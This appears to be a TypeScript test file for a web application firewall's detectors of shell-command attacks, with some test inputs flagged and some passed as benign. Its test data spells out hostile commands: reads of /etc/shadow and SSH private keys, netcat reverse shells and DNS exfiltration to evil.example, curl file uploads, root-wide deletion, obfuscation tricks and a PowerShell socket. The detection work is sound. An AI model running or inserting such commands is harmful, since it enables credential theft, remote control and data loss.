import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'
import { doesHarm, isFirm } from '../../shared/waf/detectors/shell/deeds/evidence.ts'
import { isObscure } from '../../shared/waf/detectors/shell/deeds/obscure.ts'
import { namesSecret, readsSecret, takesSecret } from '../../shared/waf/detectors/shell/deeds/secrets.ts'
import { isRunTogether } from '../../shared/waf/detectors/shell/forms/cmd.ts'

describe('a command is an attack by what it does, however it is called', () => {
  test.each([
    ['reads a secret', 'anything /etc/passwd'],
    ['reads a secret through many folders', `cat ${'../'.repeat(40)}etc/shadow`],
    ['reads a secret behind an option', 'x --file=~/.ssh/id_rsa'],
    ['reads a process by its number', 'cat /proc/17/cmdline'],
    ['connects to a port', 'nc -w 5 evil.example 4444'],
    ['connects by a version of a program', '/usr/bin/nc.traditional -e /bin/sh'],
    ['waits for a connection', 'ncat -nlvp 4444'],
    ['asks a name server', 'dig x.evil.example'],
    ['sends what another command says', 'curl http://x/`whoami`'],
    ['sends a file', 'curl -F f=@x.db http://x/'],
    ['enters a machine by its address', 'ssh root@10.0.0.1'],
    ['runs code in the line', 'python3.11 -u -c "import os"'],
    ['runs code as another user', 'sudo nohup perl -e 1'],
    ['runs a string', 'bash<<<id'],
    ['feeds an interpreter', 'x | sudo /usr/bin/python3'],
    ['has its line feed an interpreter', 'x a; y | sh'],
    ['deletes from the root', 'rm -v -rf --no-preserve-root /'],
    ['opens a program to all', 'chmod -R 0777 x'],
    ['lends a program its owner', 'chmod u+s x'],
    ['overwrites', 'echo x >> ~/.bashrc'],
    ['parts its name', "w'h'oami"],
    ['has its blank from a variable', 'x$IFS-l'],
    ['has its words in a brace', '{ls,-la}'],
    ['has folders by patterns', '/u?r/bin/x'],
    ['has another command in it', 'x $(y) $(id)'],
  ])('%s', (_name, command) => {
    expect(isFirm(`x;${command}`, 2)).toBe(true)
  })

  test.each([
    'cat README.md',
    'npm install --save-dev x && ls',
    'passwd=secret',
    'host: example.com',
    'docs/passwd and more',
    'curl https://example.com/',
    'python server.py -e x',
    'bash build.sh -c x',
    'rm -rf dist',
    'rm x',
    'chmod 755 x',
    'telnet is a protocol',
    'a, {id, name}',
    'git commit -m shadows',
    'the flags of secrets',
  ])('%s does nothing of it', (command) => {
    expect(isFirm(command, 0)).toBe(false)
  })

  test.each([
    ['cat /etc/shadow', true],
    ['cat /etc/passwd-s3fs', false],
    ['cat ~/.ssh/id_rsa', true],
    ['cat ~/.ssh/id_rsa.pub', false],
    ['cat /proc/1/environ', true],
    ['cat /proc/1/maps', false],
    ['nc evil.example 80 -e /bin/sh', true],
    ['nc -4e /bin/sh evil.example 80', true],
    ['nc evil.example 80', false],
    ['rm -rf /*', true],
    ['rm -rf /var/cache/x', false],
    ['ping $(whoami).evil.example', true],
    ['ping $(dirname x)', false],
    ['echo x; nc -e sh', false],
  ])('nobody shows an example such as: %s (%s)', (command, expected) => {
    expect(doesHarm(command, 0)).toBe(expected)
  })

  test.each([
    ['ptx /etc/passwd', true],
    ['ptx</etc/passwd', true],
    ['see /etc/passwd', false],
    ['ptx /etc/passwd if you must', false],
  ])('a name that no list has: %s (%s)', (text, expected) => {
    expect(isObscure(text, text.slice(0, 3), 3)).toBe(expected)
  })

  test.each([
    ['net,user', true],
    ['ipconfig,/all', true],
    ['ping,-n', true],
    ['type,c:\\x', true],
    ['a,b', false],
    ['net,worth', false],
    ['ipconfig,all', false],
  ])('cmd parts by a comma: %s (%s)', (word, expected) => {
    expect(isRunTogether(word)).toBe(expected)
  })
})

describe('files of secrets', () => {
  test.each([
    ['/etc/issue', true, false, false],
    ['/var/log/auth.log', true, true, false],
    ['@/etc/passwd', true, true, true],
    ['secrets-prod.yaml', true, false, false],
    ['secretary.doc', false, false, false],
    ['.envrc', false, false, false],
    ['.env.local', true, true, false],
    ['flags', false, false, false],
    ['metc/passwd', false, false, true],
    ['.aws/credentials', true, true, true],
  ])('%s: read %s, sent %s, shown to nobody %s', (path, read, sent, crown) => {
    expect([readsSecret(path), namesSecret(path, 0), takesSecret(path, true)]).toEqual([read, sent, crown])
  })
})

describe('a whole value is a command line', () => {
  const engine = coreEngine()
  const refused = (text: string): boolean => engine.text('json', 'value', 'body.note', text).refused

  test.each([
    'uniq /etc/group',
    'stat /etc/hostname',
    'expand ~/.ssh/id_rsa',
    '</etc/shadow cat',
    'tr a b < /root/.ssh/authorized_keys',
    ". ('ie'+'x') id",
    "$c = New-Object System.Net.Sockets.TcpClient('x',9001)",
    'x; foreach($i in 1..5){sleep 1}',
    'x$(<~/.ssh/id_rsa)',
  ])('%s', (text) => {
    expect(refused(text)).toBe(true)
  })

  test.each([
    'stat of the art',
    'view /etc/hosts and tell me',
    'copy .env',
    '. /etc/hosts is a file',
    '...',
    '.($|/)',
    '.("[^"]+")',
    ".('|x)",
    '<3 date, always village meeting!',
    '<region> cat',
    '$c = New-Object PSObject',
    'x; foreach($items as $item) { a }',
  ])('%s is none', (text) => {
    expect(refused(text)).toBe(false)
  })
})
